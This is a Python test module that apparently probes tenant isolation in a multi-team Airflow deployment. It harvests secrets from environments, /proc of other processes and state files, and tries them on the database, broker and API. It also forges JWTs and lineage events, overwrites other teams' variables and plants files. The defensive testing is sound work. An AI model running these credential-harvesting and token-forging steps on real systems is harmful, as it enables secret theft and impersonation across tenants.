"""The attack probe: what a task of one team can reach at runtime (test-only, never deployed).

``tests/test_isolation.py`` writes a probe DAG into each team's test bundle; its task calls
``attack(...)`` and returns one row per attempt. Where the probe itself cannot tell success
(a secret found or not), it returns the SHA-256 of every candidate it found and the test
compares them with the platform's real secrets, so a worker's own generated settings never
count as a leak and no secret is ever written to XCom or a log.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
from pathlib import Path

SECRET_ENV_KEYS = re.compile(
    r"SQL_ALCHEMY_CONN|FERNET_KEY|JWT_SECRET|JWT_PRIVATE_KEY|SECRET_KEY|BROKER_URL|RESULT_BACKEND|PASSWORD|INGEST_KEY|ADMIN_KEY"
)
DB_URL = re.compile(r"postgresql(?:\+\w+)?://[^\s\"'\\]+")
# group 1: the password (an ACL user's URL names the user: ``redis://<user>:<password>@``)
REDIS_URL = re.compile(r"redis://[^:@/\s\"'\\]*:([^@\s\"'\\]+)@[^\s\"'\\]+")
PEM = re.compile(r"-----BEGIN PRIVATE KEY-----[A-Za-z0-9+/=\s]+-----END PRIVATE KEY-----")
# JSON fields holding one secret (secrets.json, a connection's JSON, an OpenLineage transport) ...
JSON_SECRET_KEYS = ("fernet_key", "jwt_secret", "airflow_db_password", "lineage_db_password", "lineage_platform_key",
                    "domain_redis_admin_password", "standin_admin_key", "password", "apiKey")
# ... and fields holding one secret per team
JSON_SECRET_MAPS = ("redis_passwords", "domain_db_passwords", "flower_passwords", "lineage_ingest_keys",
                    "domain_redis_passwords")
API_KEY = re.compile(r"\"apiKey\"\s*:\s*\"([^\"]+)\"")
CFG_LINE = re.compile(r"^\s*(fernet_key|jwt_secret|sql_alchemy_conn|secret_key)\s*=\s*(\S+)\s*$", re.M)
MAX_FILE = 2_000_000
ATTEMPTS = (
    "read platform secrets from own environment",
    "read platform secrets from /proc of other processes",
    "read platform secrets from state files",
    "connect to the metadata database",
    "read another team's connection (task SDK)",
    "read another team's variable (task SDK)",
    "use another team's broker",
    "read another team's logs or files",
    "sign a token accepted by /api/v2",
    "sign a token accepted by /execution",
    "trigger another team's DAG",  # a TriggerDagRunOperator task next to the probe task
    "write lineage for another team's job",
    "overwrite another team's variable (task SDK)",
    "read another team's DAG and runs (task SDK)",
    "read or write another team's asset or asset state (task SDK)",
    "emit an event on another team's asset (run-time outlet)",  # judged by the test: the event in the store
)
# every team's attack probe task declares this asset as its outlet: the team's own asset
PROBE_ASSET = "{team}_probe_asset"
LINEAGE_ENDPOINT = "lineage-explorer/api/v1/lineage"  # plugins/lineage_explorer/config.py INGEST_ENDPOINT


def sha(value: str) -> str:
    return hashlib.sha256(value.strip().encode()).hexdigest()


class Loot:
    """Candidate secrets found in text, kept as hashes; raw values only in memory."""

    def __init__(self) -> None:
        self.values: set[str] = set()
        self.sources: set[str] = set()

    def scan_text(self, text: str, source: str) -> None:
        before = len(self.values)
        self.values.update(m.group(0) for m in DB_URL.finditer(text))
        self.values.update(m.group(0) for m in PEM.finditer(text))
        self.values.update(m.group(0) for m in REDIS_URL.finditer(text))
        self.values.update(m.group(2) for m in CFG_LINE.finditer(text))
        self.values.update(m.group(1) for m in API_KEY.finditer(text))
        if text.lstrip().startswith("{"):
            try:
                data = json.loads(text)
            except ValueError:
                data = None
            self.values.update(_json_secrets(data))
        if len(self.values) > before:
            self.sources.add(source)

    def scan_env(self, env: dict[str, str], source: str) -> None:
        before = len(self.values)
        self.values.update(v for k, v in env.items() if SECRET_ENV_KEYS.search(k) and v)
        self.scan_text("\n".join(env.values()), source)
        for k, v in env.items():  # JSON values: connections, OpenLineage transport, {team: ingest key}
            if v.lstrip().startswith("{"):
                self.scan_text(v, source)
                if k.endswith("INGEST_KEYS"):
                    self.values.update(_json_secrets({"lineage_ingest_keys": _loads(v)}))
        if len(self.values) > before:
            self.sources.add(source)

    def hashes(self) -> list[str]:
        return sorted(sha(v) for v in self.values)

    def private_keys(self) -> list[str]:
        return [v for v in self.values if v.startswith("-----BEGIN PRIVATE KEY")]

    def shared_secrets(self) -> list[str]:
        return [v for v in self.values if not v.startswith(("-----", "postgresql", "redis://"))]

    def db_urls(self) -> list[str]:
        return [v for v in self.values if v.startswith("postgresql")]

    def redis_passwords(self) -> list[str]:
        return [m.group(1) for v in self.values for m in [REDIS_URL.match(v)] if m]


def _loads(text: str):
    try:
        return json.loads(text)
    except ValueError:
        return None


def _json_secrets(data) -> set[str]:
    """Every value of a secret-named field, at any depth of a JSON document."""
    out: set[str] = set()
    if isinstance(data, list):
        for item in data:
            out |= _json_secrets(item)
    if not isinstance(data, dict):
        return out
    for k, v in data.items():
        if k in JSON_SECRET_KEYS and isinstance(v, str) and v:
            out.add(v)
        elif k in JSON_SECRET_MAPS and isinstance(v, dict):
            out.update(str(x) for x in v.values() if x)
        else:
            out |= _json_secrets(v)
    return out


def _read(path: Path) -> str | None:
    try:
        if path.is_file() and path.stat().st_size <= MAX_FILE:
            return path.read_text(errors="ignore")
    except OSError:
        return None
    return None


def _environ(pid: str) -> dict[str, str] | None:
    try:
        raw = Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return None
    out = {}
    for item in raw.split(b"\0"):
        k, _, v = item.decode(errors="ignore").partition("=")
        if k:
            out[k] = v
    return out


def _walk(root: Path, skip: tuple[Path, ...] = ()):
    for dirpath, dirnames, filenames in os.walk(root, onerror=lambda e: None):
        here = Path(dirpath)
        dirnames[:] = [d for d in dirnames if here / d not in skip]
        for f in filenames:
            yield here / f


def row(succeeded: bool, detail: str, found: list[str] | None = None) -> dict:
    return {"succeeded": succeeded, "detail": detail, **({"found": found} if found is not None else {})}


def gather_secrets(state_dir: Path, out: dict[str, dict]) -> Loot:
    """The three secret-hunting rows (own environment, /proc, state files) into ``out``; all
    candidates found."""
    own = Loot()
    own.scan_env(dict(os.environ), "own environment")
    own_environ = _environ("self")  # the process's initial environment (what fork inherited)
    if own_environ:
        own.scan_env(own_environ, "/proc/self/environ")
    out["read platform secrets from own environment"] = row(False, f"{len(own.values)} candidate(s)", own.hashes())

    procs = Loot()
    readable = 0
    for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
        env = _environ(pid)
        if env is None:
            continue
        readable += 1
        procs.scan_env(env, f"/proc/{pid}")
    out["read platform secrets from /proc of other processes"] = row(
        False, f"{readable} environ(s) readable, {len(procs.values)} candidate(s)", procs.hashes()
    )

    files = Loot()
    read_files = 0
    for path in _walk(state_dir, skip=(state_dir / "pgdata",)):
        text = _read(path)
        if text is not None:
            read_files += 1
            files.scan_text(text, str(path))
    out["read platform secrets from state files"] = row(
        False, f"{read_files} file(s) readable, {len(files.values)} candidate(s)", files.hashes()
    )

    loot = Loot()
    for source in (own, procs, files):
        loot.values |= source.values
    return loot


def attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_redis_port: int, ti_id: str,
           other_lineage: dict | None = None) -> dict:
    """Every attempt of the matrix, from inside a task of ``team`` against ``other``.
    ``other_lineage`` (``{"run_id", "job", "dataset": {"namespace", "name"}}``): a run and a
    dataset ``other`` stored with its own key, for the lineage integrity attempts."""
    state_dir = Path(state)
    out: dict[str, dict] = {}
    loot = gather_secrets(state_dir, out)
    out["connect to the metadata database"] = _try_database(loot, state_dir, pg_port)
    out["read another team's connection (task SDK)"] = _try_sdk_connection(f"{other}_postgres")
    out["read another team's variable (task SDK)"] = _try_sdk_variable(f"{other}_alert_emails")
    out["use another team's broker"] = _try_broker(other_redis_port, loot)
    out["read another team's logs or files"] = _try_other_files(state_dir, other)
    out["sign a token accepted by /api/v2"], out["sign a token accepted by /execution"] = _try_tokens(
        loot, api_url, ti_id, f"{other}_alert_emails"
    )
    out["write lineage for another team's job"] = _try_lineage(api_url, team, other, loot, other_lineage)
    out["overwrite another team's variable (task SDK)"] = _try_sdk_variable_write(f"{other}_alert_emails")
    # the other team's conn probe only: its attack probe's id must appear in no other worker's log
    out["read another team's DAG and runs (task SDK)"] = _try_sdk_dag_runs([f"{other}_conn_probe"])
    out["read or write another team's asset or asset state (task SDK)"] = _try_sdk_asset(
        PROBE_ASSET.format(team=other))
    out["emit an event on another team's asset (run-time outlet)"] = _add_foreign_outlet(PROBE_ASSET.format(team=other))
    return out


def _try_database(loot: Loot, state_dir: Path, pg_port: int) -> dict:
    import psycopg2

    attempts = [f"host={state_dir / 'pgdata'} port={pg_port} user=postgres dbname=airflow connect_timeout=3"]
    attempts += [f"host=127.0.0.1 port={pg_port} user={u} dbname=airflow connect_timeout=3" for u in ("postgres", "airflow")]
    for url in loot.db_urls():
        attempts.append(url.replace("postgresql+psycopg2://", "postgresql://") + "?connect_timeout=3" * ("?" not in url))
    errors = []
    for dsn in attempts:
        try:
            psycopg2.connect(dsn).close()
            return row(True, f"connected ({len(attempts)} attempt(s))")
        except psycopg2.Error as e:
            errors.append(str(e).strip().splitlines()[0][:80])
    return row(False, f"{len(attempts)} attempt(s) refused: {sorted(set(errors))[:3]}")


def _try_sdk_connection(conn_id: str) -> dict:
    from airflow.sdk import BaseHook

    try:
        BaseHook.get_connection(conn_id)
        return row(True, f"{conn_id} resolved")
    except Exception as e:  # the SDK raises AirflowNotFoundException; any failure is a refusal
        return row(False, f"{type(e).__name__}")


def _try_sdk_variable(key: str) -> dict:
    from airflow.sdk import Variable

    try:
        Variable.get(key)
        return row(True, f"{key} resolved")
    except Exception as e:  # KeyError / AirflowRuntimeError: refused
        return row(False, f"{type(e).__name__}")


def _try_sdk_variable_write(key: str) -> dict:
    """``Variable.set`` on another team's key (keys are unique across teams: Airflow 3.3.2's
    upsert would overwrite the other team's row, keeping its team)."""
    from airflow.sdk import Variable

    try:
        Variable.set(key, "probe@attacker.invalid", description="written by another team's attack probe")
        return row(True, f"{key} written")
    except Exception as e:  # AirflowRuntimeError (the api-server refused): refused
        return row(False, f"{type(e).__name__}")


def _try_sdk_dag_runs(dag_ids: list[str]) -> dict:
    """What ``RuntimeTaskInstance``'s static helpers (``get_dag``, ``get_dr_count``,
    ``get_task_states``, ``get_dagrun_state``) tell a task about another team's DAGs."""
    from airflow.sdk.execution_time.task_runner import RuntimeTaskInstance

    learned, refused = [], []
    for dag_id in dag_ids:
        try:
            RuntimeTaskInstance.get_dag(dag_id)
            learned.append(f"{dag_id}: DAG details")
        except Exception as e:  # AirflowRuntimeError: not found
            refused.append(f"get_dag {type(e).__name__}")
        try:
            if (count := RuntimeTaskInstance.get_dr_count(dag_id=dag_id)) > 0:
                learned.append(f"{dag_id}: {count} run(s)")
            states = RuntimeTaskInstance.get_task_states(dag_id=dag_id)
            if states:
                learned.append(f"{dag_id}: task states of {len(states)} run(s)")
            for run_id in list(states)[:1]:
                learned.append(f"{dag_id}: a run's state {RuntimeTaskInstance.get_dagrun_state(dag_id, run_id)}")
        except Exception as e:
            refused.append(f"runs {type(e).__name__}")
    return row(bool(learned), f"learned: {learned}" if learned else f"nothing: {sorted(set(refused))}")


def _try_sdk_asset(name: str) -> dict:
    """Another team's asset by name, its events and its state, as the SDK asks the supervisor:
    the comms messages ``GetAssetByName``/``GetAssetEventByAsset`` (what inlet accessors
    send) and an ``AssetStateStoreAccessor`` (``context["asset_state_store"][asset]``)."""
    from airflow.sdk.execution_time.comms import AssetEventsResult, AssetResult, GetAssetByName, GetAssetEventByAsset
    from airflow.sdk.execution_time.context import AssetStateStoreAccessor
    from airflow.sdk.execution_time.task_runner import SUPERVISOR_COMMS

    reached, refused = [], []
    try:
        if isinstance(SUPERVISOR_COMMS.send(GetAssetByName(name=name)), AssetResult):
            reached.append("asset found")
    except Exception as e:
        refused.append(f"asset {type(e).__name__}")
    try:
        events = SUPERVISOR_COMMS.send(GetAssetEventByAsset(name=name, uri=None))
        if isinstance(events, AssetEventsResult) and events.asset_events:
            reached.append(f"{len(events.asset_events)} event(s) read")
    except Exception as e:
        refused.append(f"events {type(e).__name__}")
    store = AssetStateStoreAccessor(name=name)
    try:
        store.set("probe", "written by another team")
        reached.append("state written")
    except Exception as e:
        refused.append(f"state write {type(e).__name__}")
    try:
        if store.get("probe") is not None:
            reached.append("state read")
    except Exception as e:
        refused.append(f"state read {type(e).__name__}")
    return row(bool(reached), f"reached: {reached}" if reached else f"nothing: {sorted(set(refused))}")


def _add_foreign_outlet(name: str, uri: str | None = None) -> dict:
    """Add another team's asset to this task's outlets at run time, with an outlet event: the
    task's success update (``PATCH .../state``: ``task_outlets``, ``outlet_events``) carries
    them. The probe cannot see the result (it comes after the task returns): the test looks
    for an event on that asset from this run."""
    from airflow.sdk import Asset, get_current_context

    context = get_current_context()
    asset = Asset(name=name, uri=uri or name)
    context["ti"].task.outlets.append(asset)
    context["outlet_events"][asset].extra = {"forged_by": "attack probe"}
    return row(False, f"outlet {name} added at run time")


def _try_broker(port: int, loot: Loot) -> dict:
    import redis

    own = [m.group(1) for v in os.environ.values() for m in [REDIS_URL.search(v)] if m]
    errors = []
    for password in [None, *own, *loot.redis_passwords()]:
        try:
            client = redis.Redis(host="127.0.0.1", port=port, password=password, socket_timeout=3)
            client.llen("default")
            return row(True, "broker answered")
        except redis.RedisError as e:
            errors.append(type(e).__name__)
    return row(False, f"refused: {sorted(set(errors))}")


def _try_other_files(state_dir: Path, other: str) -> dict:
    targets = [state_dir / "tenants" / other, state_dir / "task-logs"]
    read = []
    for root in targets:
        for path in _walk(root):
            if other not in str(path):
                continue
            if _read(path):
                read.append(str(path.relative_to(state_dir)))
    return row(bool(read), f"{len(read)} file(s) of {other} read" + (f", e.g. {read[0]}" if read else ""))


def _try_tokens(loot: Loot, api_url: str, ti_id: str, other_var: str) -> tuple[dict, dict]:
    import requests
    from airflow.api_fastapi.auth.tokens import JWTGenerator
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    signers = []
    for pem in loot.private_keys():
        signers.append(("private key", {"private_key": load_pem_private_key(pem.encode(), password=None)}))
    for secret in loot.shared_secrets():
        signers.append(("shared secret", {"secret_key": secret, "algorithm": "HS512", "private_key": None}))
    api_ok, exe_ok = [], []
    for kind, args in signers:
        try:
            admin = JWTGenerator(valid_for=300, audience="apache-airflow", **args).generate(
                {"sub": "admin", "role": "admin", "teams": None}
            )
            task = JWTGenerator(valid_for=300, audience="urn:airflow.apache.org:task", **args).generate({"sub": ti_id})
        except Exception:  # not a usable key for this algorithm
            continue
        try:
            r = requests.get(f"{api_url}/api/v2/dags", headers={"Authorization": f"Bearer {admin}"}, timeout=10)
            if r.status_code == 200:
                api_ok.append(kind)
            r = requests.get(f"{api_url}/execution/variables/{other_var}", headers={"Authorization": f"Bearer {task}"},
                             timeout=10)
            if r.status_code not in (401, 403):
                exe_ok.append(f"{kind} ({r.status_code})")
        except requests.RequestException:  # no api-server to accept it
            continue
    detail = f"{len(signers)} signing key(s) found"
    return (
        row(bool(api_ok), f"{detail}; accepted: {api_ok}"),
        row(bool(exe_ok), f"{detail}; accepted: {exe_ok}"),
    )


def _try_lineage(api_url: str, team: str, other: str, loot: Loot, other_lineage: dict | None = None) -> dict:
    """POST OpenLineage run events for jobs of ``other``'s DAG (``<other>_conn_probe`` and its
    task ``resolve``, in the deployment's namespace: the provider's job names) to the lineage
    explorer's ingest endpoint: with this task's own ingest key (its OpenLineage transport),
    with no key, with guessed keys and with any secret the scans found. The row lists the run
    ids sent: the test also looks for them in the lineage store. With ``other_lineage`` and an
    own key, also the integrity attempts of :func:`_try_lineage_integrity`."""
    import uuid
    from datetime import UTC, datetime
    from urllib.parse import urljoin

    import requests

    transport = _loads(os.environ.get("AIRFLOW__OPENLINEAGE__TRANSPORT") or "") or {}
    own_key = (transport.get("auth") or {}).get("apiKey") if transport.get("type") == "http" else None
    url = urljoin(api_url.rstrip("/") + "/", LINEAGE_ENDPOINT)
    namespace = os.environ.get("AIRFLOW__OPENLINEAGE__NAMESPACE", "default")
    keys = [("own key", own_key), ("no key", None), ("guessed key", other), ("guessed key", "lineage")]
    keys += [("found secret", s) for s in sorted(loot.shared_secrets()) if s != own_key]
    accepted, statuses, run_ids = [], {}, []
    for label, key in keys:
        if label == "own key" and not key:
            continue
        for job in (f"{other}_conn_probe.resolve", f"{other}_conn_probe"):
            run_id = str(uuid.uuid4())
            run_ids.append(run_id)
            event = {
                "eventType": "COMPLETE", "eventTime": datetime.now(UTC).isoformat(),
                "run": {"runId": run_id, "facets": {}}, "job": {"namespace": namespace, "name": job, "facets": {}},
                "inputs": [], "outputs": [{"namespace": "postgres://attacker", "name": f"{other}.forged"}],
                "producer": "tests/tenant_probe.py",
                "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
            }
            headers = {"Authorization": f"Bearer {key}"} if key else {}
            try:
                code = requests.post(url, json=event, headers=headers, timeout=10).status_code
            except requests.RequestException as e:
                code = type(e).__name__
            statuses.setdefault(label, set()).add(str(code))
            if isinstance(code, int) and 200 <= code < 300:
                accepted.append(f"{label} for {job}")
    integrity = {}
    if own_key and other_lineage:
        integrity = _try_lineage_integrity(url, namespace, own_key, team, other_lineage)
        statuses["own key, integrity"] = {f"{k}: {v}" for k, v in integrity.items()}
        accepted += [f"own key: {k}" for k, v in integrity.items()
                     if k in INTEGRITY_REFUSED and isinstance(v, int) and 200 <= v < 300]
    detail = f"own key: {'yes' if own_key else 'none'}; " + "; ".join(f"{k} -> {sorted(v)}" for k, v in statuses.items())
    return {**row(bool(accepted), detail + (f"; accepted: {accepted}" if accepted else "")), "run_ids": run_ids,
            "integrity": integrity}


# the integrity attempts the explorer must refuse (the facets attempt is stored, under the
# probe's own job: the test checks that the other team does not see those facets)
INTEGRITY_REFUSED = ("run id of the other team's run", "parent run of the other team", "root run of the other team")
INTEGRITY_FACETS = "facets on the other team's dataset"


def _try_lineage_integrity(url: str, namespace: str, own_key: str, team: str, target: dict) -> dict[str, int | str]:
    """With its own key, events of its own job (``<team>_attack_probe.attack``, which the key may
    report) aimed at ``target``, a run and a dataset the other team stored: the other team's run
    id (a FAIL that would end its run), a parent and a root run facet on the other team's run,
    and a forged schema (column ``forged_by_<team>``) on the other team's dataset. Returns the
    HTTP status (or the error's name) per attempt."""
    import uuid
    from datetime import UTC, datetime

    import requests

    producer = "tests/tenant_probe.py"

    def facet(name: str) -> dict:
        return {"_producer": producer, "_schemaURL": f"https://openlineage.io/spec/facets/1-0-1/{name}.json"}

    def event(run_id: str, run_facets: dict | None = None, outputs: list | None = None, kind: str = "COMPLETE") -> dict:
        return {
            "eventType": kind, "eventTime": datetime.now(UTC).isoformat(),
            "run": {"runId": run_id, "facets": run_facets or {}},
            "job": {"namespace": namespace, "name": f"{team}_attack_probe.attack", "facets": {}},
            "inputs": [], "outputs": outputs or [], "producer": producer,
            "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        }

    other_run = {"run": {"runId": target["run_id"]}, "job": {"namespace": namespace, "name": target["job"]}}
    own_dag_run = {"run": {"runId": str(uuid.uuid4())}, "job": {"namespace": namespace, "name": f"{team}_attack_probe"}}
    forged = {**target["dataset"], "facets": {"schema": {**facet("SchemaDatasetFacet"),
                                                          "fields": [{"name": f"forged_by_{team}", "type": "text"}]}}}
    attempts = {
        "run id of the other team's run": event(target["run_id"], kind="FAIL"),
        "parent run of the other team": event(str(uuid.uuid4()), {"parent": {**facet("ParentRunFacet"), **other_run}}),
        "root run of the other team": event(str(uuid.uuid4()),
                                            {"parent": {**facet("ParentRunFacet"), **own_dag_run, "root": other_run}}),
        INTEGRITY_FACETS: event(str(uuid.uuid4()), outputs=[forged]),
    }
    out: dict[str, int | str] = {}
    for name, body in attempts.items():
        try:
            out[name] = requests.post(url, json=body, headers={"Authorization": f"Bearer {own_key}"}, timeout=10).status_code
        except requests.RequestException as e:
            out[name] = type(e).__name__
    return out


CODE_ATTEMPTS = (
    "read platform secrets from own environment",
    "read platform secrets from /proc of other processes",
    "read platform secrets from state files",
    "connect to the metadata database",
    "read another team's variable (in-process API)",
    "overwrite another team's variable (in-process API)",
    "list another team's variable keys (in-process API)",
    "read another team's task states (in-process API)",
    "read another team's bundle folder",
    "write into another team's bundle folder",
    "sign a token accepted by /api/v2",
)


def code_attack(team: str, other: str, state: str, pg_port: int, api_url: str, other_bundle: str,
                where: str = "parse") -> dict:
    """The attempts a team's code running inside a platform process can make: a DAG file's
    top-level code (``where="parse"``, in the dag-processor) or a trigger's (``"trigger"``, in
    the team's triggerer). Run once per platform and place (the result is kept in a file of the
    running user, so every later parse publishes the same ``doc_md`` and the DAG gets no new
    version). ``runtime`` tells who ran it."""
    import tempfile

    cache = Path(tempfile.gettempdir()) / f"{where}-probe-{Path(state).name}-{team}-{os.getuid()}.json"
    if cache.exists():
        return json.loads(cache.read_text())
    state_dir = Path(state)
    out: dict[str, dict] = {}
    loot = gather_secrets(state_dir, out)
    out["connect to the metadata database"] = _try_database(loot, state_dir, pg_port)
    out["read another team's variable (in-process API)"] = _try_sdk_variable(f"{other}_alert_emails")
    out["overwrite another team's variable (in-process API)"] = _try_sdk_variable_write(f"{other}_alert_emails")
    out.update(_try_in_process_api(other))
    out.update(_try_bundle(Path(other_bundle)))
    out["sign a token accepted by /api/v2"], _ = _try_tokens(loot, api_url, "00000000-0000-0000-0000-000000000000",
                                                            f"{other}_alert_emails")
    out["runtime"] = {"uid": os.getuid(), "env_keys": sorted(os.environ)}
    cache.write_text(json.dumps(out))
    return out


def _try_in_process_api(other: str) -> dict[str, dict]:
    """What the dag-processor's in-process Execution API answers a parse child about ``other``."""
    from airflow.sdk.execution_time import task_runner
    from airflow.sdk.execution_time.comms import GetTaskStates, GetVariableKeys

    out = {}
    try:
        keys = list(task_runner.SUPERVISOR_COMMS.send(GetVariableKeys()).keys)
        theirs = [k for k in keys if k.startswith(f"{other}_")]
        out["list another team's variable keys (in-process API)"] = row(bool(theirs), f"{len(theirs)} of {other}'s keys")
    except Exception as e:
        out["list another team's variable keys (in-process API)"] = row(False, type(e).__name__)
    try:
        states = getattr(task_runner.SUPERVISOR_COMMS.send(GetTaskStates(dag_id=f"{other}_conn_probe")), "task_states", None)
        out["read another team's task states (in-process API)"] = row(states is not None, f"answer: {type(states).__name__}")
    except Exception as e:
        out["read another team's task states (in-process API)"] = row(False, type(e).__name__)
    return out


def _try_bundle(folder: Path) -> dict[str, dict]:
    try:
        names = os.listdir(folder)
        listed = row(True, f"{len(names)} entries listed")
    except OSError as e:
        listed = row(False, type(e).__name__)
    planted = folder / "planted_by_another_team.py"
    try:
        planted.write_text("# planted\n")
        wrote = row(True, "a file was written")
    except OSError as e:
        wrote = row(False, type(e).__name__)
    return {"read another team's bundle folder": listed, "write into another team's bundle folder": wrote}
